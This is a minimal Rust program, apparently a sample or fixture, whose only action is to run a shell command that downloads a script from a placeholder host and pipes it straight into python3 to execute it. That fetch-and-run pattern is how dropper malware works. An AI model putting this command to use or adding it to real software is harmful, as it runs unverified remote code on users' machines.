fn main() {
    std::process::Command::new("sh").arg("-c").arg("wget -qO- https://example.invalid/x | python3").status();
}
